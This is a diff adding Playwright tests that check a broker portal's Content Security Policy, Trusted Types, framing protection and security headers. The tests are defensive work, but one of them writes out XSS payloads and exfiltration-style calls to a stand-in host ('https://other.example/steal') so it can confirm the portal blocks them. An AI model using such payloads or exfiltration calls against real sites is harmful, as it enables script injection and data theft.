@@ -1,0 +1,134 @@
+import { expect, test } from '@fairhaul/testkit/playwright'
+import type { Page } from 'playwright/test'
+
+const MARKUP_REFUSED = /This document requires 'TrustedHTML' assignment/
+
+/** An address of every route that a signed-in broker may open. One without a screen of its own shows Page Not Found. */
+const PLACES = [
+  ...[
+    '/',
+    '/carriers/lane-search',
+    '/carriers/lane-search-results',
+    '/carriers/search-results?search=DOT%209',
+  ],
+  ...['/carriers/global-search?search=eagle', '/carriers/contact-search', '/carriers/Mine'],
+  ...['/carriers/my-carriers', '/carriers/connections', '/carriers/saved-searches'],
+  ...[
+    '/carriers/rate-confirmations',
+    '/carriers/rate-confirmations/1',
+    '/carriers/rate-confirmations/emails',
+  ],
+  ...['/carriers/10', '/carriers/3?override=cargo_at_least_100000', '/vehicles', '/vehicles/1'],
+  ...['/my-account', '/my-account?tab=1', '/my-account?tab=2', '/my-account?tab=3', '/my-account?tab=4'],
+  ...['/my-account?tab=5', '/my-account?tab=6', '/company_change_orders/1', '/alerts', '/loads', '/loads/1'],
+  ...['/required-information', '/nowhere'],
+]
+
+const attempt = (page: Page, code: string): Promise<string> =>
+  page.evaluate(`(() => { try { ${code}; return 'done' } catch (error) { return String(error) } })()`)
+
+test('a walk through the screens breaks no policy, and the page may not be framed', async ({
+  page,
+  signIn,
+  servers,
+  policyViolations,
+}) => {
+  await signIn('dana@northlake.example')
+  for (const path of PLACES) {
+    await page.goto(`/broker${path}`)
+    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
+  }
+  expect(policyViolations).toEqual([])
+
+  // A page of another site that frames the portal sees a refusal in place of it.
+  await page.route('https://other.example/', route =>
+    route.fulfill({
+      contentType: 'text/html',
+      body: `<title>Other</title><iframe src="${servers.portalUrl}/broker/"></iframe>`,
+    }),
+  )
+  const refused = page.waitForEvent(
+    'requestfailed',
+    request => request.url() === `${servers.portalUrl}/broker/`,
+  )
+  await page.goto('https://other.example/')
+  expect((await refused).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE')
+})
+
+test('what is written into the page does not run, and markup is not made from text', async ({
+  page,
+  policyViolations,
+}) => {
+  await page.goto('/broker/login')
+  await expect(page.getByLabel('Work e-mail')).toBeFocused()
+
+  expect(await attempt(page, `document.body.innerHTML = '<img src=x onerror="window.ran = 1">'`)).toMatch(
+    MARKUP_REFUSED,
+  )
+  expect(await attempt(page, `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`)).toMatch(
+    MARKUP_REFUSED,
+  )
+  expect(await attempt(page, `document.createElement('script').src = 'https://other.example/x.js'`)).toMatch(
+    /TrustedScriptURL/,
+  )
+  expect(await attempt(page, `trustedTypes.createPolicy('mine', { createHTML: text => text })`)).toMatch(
+    /Policy "mine" disallowed/,
+  )
+  await attempt(page, `document.querySelector('form').setAttribute('onclick', 'window.ran = 1')`)
+  await page.getByRole('heading', { name: 'Sign in' }).click()
+  await attempt(
+    page,
+    `document.head.append(Object.assign(document.createElement('style'), { textContent: 'b{}' }))`,
+  )
+  await attempt(page, `new Image().src = 'https://other.example/steal?all'`)
+  await attempt(page, `fetch('https://other.example/steal').catch(() => {})`)
+  expect(await page.evaluate('window.ran')).toBeUndefined()
+  await expect(page.getByLabel('Work e-mail')).toBeVisible()
+
+  const refused = () => new Set(policyViolations.map(words => words.split(' ')[0]))
+  await expect
+    .poll(refused)
+    .toEqual(
+      new Set(['connect-src', 'img-src', 'require-trusted-types-for', 'style-src-elem', 'trusted-types']),
+    )
+  policyViolations.length = 0
+})
+
+test('each kind of answer has its headers', async ({ request, servers }) => {
+  const page = await request.get(`${servers.portalUrl}/broker/carriers/12`)
+  expect(page.headers()).toMatchObject({
+    'content-encoding': 'br',
+    'cache-control': 'no-cache',
+    'cross-origin-opener-policy': 'same-origin',
+    'referrer-policy': 'same-origin',
+    'x-content-type-options': 'nosniff',
+  })
+  const policy = page.headers()['content-security-policy'] ?? ''
+  expect(policy).toMatch(/script-src 'self'( 'sha256-[^']+')+;/)
+  expect(policy).toContain("frame-ancestors 'none'")
+  expect(policy).toContain("require-trusted-types-for 'script'")
+  expect(policy).not.toContain('unsafe')
+
+  const [script = ''] = /\/broker\/assets\/[^"]+\.js/.exec(await page.text()) ?? []
+  const file = await request.get(`${servers.portalUrl}${script}`)
+  expect(file.headers()).toMatchObject({
+    'content-encoding': 'br',
+    'cache-control': 'public, max-age=31536000, immutable',
+    'content-type': 'text/javascript; charset=utf-8',
+    'cross-origin-resource-policy': 'same-origin',
+  })
+  const again = await request.get(`${servers.portalUrl}${script}`, {
+    headers: { 'if-none-match': file.headers()['etag'] ?? '' },
+  })
+  expect(again.status()).toBe(304)
+
+  const missing = await request.get(`${servers.portalUrl}/broker/assets/gone-00000000.js`)
+  expect([missing.status(), missing.headers()['content-type']]).toEqual([404, 'text/plain; charset=utf-8'])
+
+  const call = await request.get(`${servers.portalUrl}/monitor/refresh_jwt`)
+  expect(call.status()).toBe(401)
+  expect(call.headers()).toMatchObject({
+    'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
+    'x-content-type-options': 'nosniff',
+  })
+})
